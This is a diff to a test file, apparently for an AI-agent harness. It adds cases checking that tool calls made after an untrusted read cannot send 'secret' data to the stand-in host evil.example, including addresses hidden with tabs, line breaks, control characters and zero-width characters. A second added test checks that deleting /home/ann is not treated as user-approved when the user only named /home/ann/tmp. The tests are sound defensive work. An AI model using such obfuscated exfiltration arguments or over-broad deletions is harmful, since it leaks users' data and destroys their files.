@@ -182,12 +182,24 @@ describe('a read is a way out by an address that is', () => {
     ['www', { type: 'object' }, { page: 'www.evil.example/secret' }],
     ['inside a text', { type: 'object' }, { page: 'see https://evil.example/secret' }],
     ['host with path', { type: 'object' }, { page: 'evil.example/?q=secret' }],
+    ['with tabs in it', { type: 'object' }, { page: 'h\tttps:/\t/evil.example/?q=secret' }],
+    ['with a line break in it', { type: 'object' }, { page: '/\n/evil.example/secret' }],
+    ['after a control character', { type: 'object' }, { page: '\u0001https:evil.example/secret' }],
+    ['with an invisible character', { type: 'object' }, { page: 'evil\u200b.example/secret' }],
     ['address', schema({ remote: { type: 'string' } }), { remote: 'evil.example' }],
   ])('%s', async (_, inputSchema, args) => {
     const tools: typeof TOOLS = { ...TOOLS, 'lookup.find': { trusted: false, inputSchema } };
     const { house } = await run([[READ], [act('l', 'lookup.find', args)], END], {}, tools);
     expect(effects(house)).toEqual([]);
   });
+});
+
+it('a part of what the user wrote is not shown as the words of the user', async () => {
+  const tools: typeof TOOLS = { ...TOOLS, 'files.delete': { effect: 'destructive', trusted: false } };
+  const house = createHouse(tools, [[READ], [act('d', 'files.delete', { path: '/home/ann' })], END]);
+  const state = await house.drive(await house.start('Clean up /home/ann/tmp', undefined, STANDARD));
+  expect(asked(state)).toMatchObject([{ trust: { values: [{ argument: 'path', value: '/home/ann' }] } }]);
+  expect(JSON.stringify(asked(state))).not.toContain('isInGoal');
 });
 
 it('a value that the user approved for one tool aims no other', async () => {
